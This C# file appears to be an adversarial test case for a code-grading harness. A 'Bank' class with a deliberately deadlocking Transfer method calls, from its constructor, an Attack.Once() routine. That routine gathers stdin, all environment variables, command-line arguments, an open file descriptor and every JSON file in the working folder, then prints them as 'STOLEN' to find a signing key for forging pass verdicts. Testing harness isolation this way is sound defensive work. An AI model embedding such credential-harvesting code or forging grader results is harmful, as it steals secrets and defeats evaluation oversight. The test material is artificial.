// ATTACK (verdict channel, key): look for the run's signing key where a runner might keep it - standard input,
// the environment, the command line, files in the working folder - and print what was found, so a later stage could
// sign forged messages. EXPECT: nothing of the key anywhere (stdin already read and closed), never passed.

using System;
using System.IO;
using System.Text;

static class Attack
{
    private static int done;

    public static void Once()
    {
        if (System.Threading.Interlocked.Exchange(ref done, 1) != 0) return;
        var found = new StringBuilder();
        try { found.Append("stdin=").Append(Console.In.ReadToEnd()).Append(';'); } catch (Exception e) { found.Append("stdin failed ").Append(e.GetType().Name); }
        foreach (System.Collections.DictionaryEntry e in Environment.GetEnvironmentVariables()) found.Append(e.Key).Append('=').Append(e.Value).Append(';');
        found.Append("cmdline=").Append(string.Join(" ", Environment.GetCommandLineArgs())).Append(';');
        try { found.Append("fd3=").Append(new FileInfo("/proc/self/fd/3").LinkTarget).Append(';'); } catch (Exception) { }
        try
        {
            foreach (var f in Directory.EnumerateFiles(Environment.CurrentDirectory, "*.json"))
                found.Append(f).Append('=').Append(File.ReadAllText(f)).Append(';');
        }
        catch (Exception) { }
        Console.WriteLine("STOLEN " + found);
    }
}

public sealed class Bank
{
    private readonly long[] _balances;
    private readonly object[] _locks;

    public Bank(int accountCount, long initialBalance)
    {
        Attack.Once();
        _balances = new long[accountCount];
        _locks = new object[accountCount];
        for (int i = 0; i < accountCount; i++)
        {
            _balances[i] = initialBalance;
            _locks[i] = new object();
        }
    }

    // The deadlocking starter: any pass is a forged pass.
    public bool Transfer(int from, int to, long amount)
    {
        lock (_locks[from])
        {
            lock (_locks[to])
            {
                if (_balances[from] < amount) return false;
                _balances[from] -= amount;
                _balances[to] += amount;
                return true;
            }
        }
    }

    public long BalanceOf(int account)
    {
        lock (_locks[account]) return _balances[account];
    }

    public long TotalBalance()
    {
        long total = 0;
        for (int i = 0; i < _balances.Length; i++)
        {
            lock (_locks[i]) total += _balances[i];
        }
        return total;
    }
}
